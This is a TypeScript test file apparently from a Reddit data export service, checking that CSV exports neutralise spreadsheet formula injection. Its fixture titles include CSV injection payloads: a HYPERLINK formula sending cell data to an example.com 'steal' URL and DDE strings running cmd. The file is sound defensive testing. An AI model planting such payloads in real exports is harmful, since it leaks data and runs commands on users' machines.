/**
 * CSV files are safe to open in a spreadsheet (docs/api.md#exports): text a Reddit user wrote that
 * starts like a formula (`=`, `+`, `-`, `@`, a tab, a carriage return) gets a leading `'`, as OWASP
 * recommends, while numbers (a negative score) stay numbers and other text is untouched. The file
 * is assembled from stored pages exactly as a finished job's is, and read back by an RFC 4180
 * reader written apart from the writer.
 */
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ExportQuery } from "@rda/contracts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../../test/e2e/exports.support.ts";
import { filesystemStore, type ObjectStore } from "../src/object-store.ts";
import { assembleResult, partName } from "../src/result-file.ts";

const id = "exp_00000000000000000000c5f0";
const TITLES = [
  '=HYPERLINK("http://example.com/steal?x="&A1,"Click for karma")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3 reasons my cat ignores me",
  "\tindented with a tab",
  "\rstarts with a carriage return",
  "TIL a = b, and b = c",
  "What's your favourite -- and why?",
];
const rows = TITLES.map((title, n) => ({
  id: `t${n}`,
  created_utc: 1_700_000_000 + n,
  title,
  author: n === 2 ? "@mention_me" : "throwaway_123",
  score: n % 2 === 0 ? -n - 1 : n * 10,
  selftext: n === 0 ? "=1+1" : "",
}));

let dir: string;
let store: ObjectStore;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "rda-csv-"));
  store = filesystemStore(dir);
  await store.put(partName(id, 1, "w1"), rows.map((row) => `${JSON.stringify(row)}\n`).join(""));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function exportCsv(fields?: string): Promise<string[][]> {
  const query: ExportQuery = {
    kind: "posts",
    subreddit: "AskReddit",
    after: 1_699_999_999,
    before: 1_700_000_100,
    format: "csv",
    gzip: false,
    ...(fields === undefined ? {} : { fields }),
  };
  const { file } = await assembleResult(store, id, query, {
    pages: 1,
    writers: [{ from: 1, writer: "w1" }],
    complete: true,
    cursor: 0,
  });
  return parseCsv(await readFile(join(dir, file.path), "utf8"));
}

describe("a CSV export of Reddit text", () => {
  it("prefixes every text cell that starts like a formula with ', and leaves numbers and other text alone", async () => {
    const [header, ...records] = await exportCsv();
    expect(header).toEqual(["id", "created_utc", "title", "author", "score", "selftext"]);
    const column = (name: string) => records.map((record) => record[header!.indexOf(name)]);
    expect(column("title")).toEqual([
      `'${TITLES[0]}`,
      `'${TITLES[1]}`,
      `'${TITLES[2]}`,
      `'${TITLES[3]}`,
      `'${TITLES[4]}`,
      `'${TITLES[5]}`,
      TITLES[6],
      TITLES[7],
    ]);
    expect(column("author")[2]).toBe("'@mention_me");
    expect(column("author")[1]).toBe("throwaway_123");
    // A numeric column keeps its minus signs: the spreadsheet reads numbers, not formulas.
    expect(column("score")).toEqual(rows.map((row) => String(row.score)));
    expect(column("score")[0]).toBe("-1");
    expect(column("selftext")[0]).toBe("'=1+1");
    expect(column("created_utc")).toEqual(rows.map((row) => String(row.created_utc)));
  });

  it("neutralises the same way with chosen fields", async () => {
    const [header, ...records] = await exportCsv("title,score,id,created_utc");
    expect(header).toEqual(["title", "score", "id", "created_utc"]);
    expect(records.map((record) => record[0])).toEqual(
      TITLES.map((title) => (/^[=+\-@\t\r]/.test(title) ? `'${title}` : title)),
    );
    expect(records.every((record) => !/^[=+@\t\r]/.test(record[0]!))).toBe(true);
    expect(records.map((record) => record[1])).toEqual(rows.map((row) => String(row.score)));
  });
});
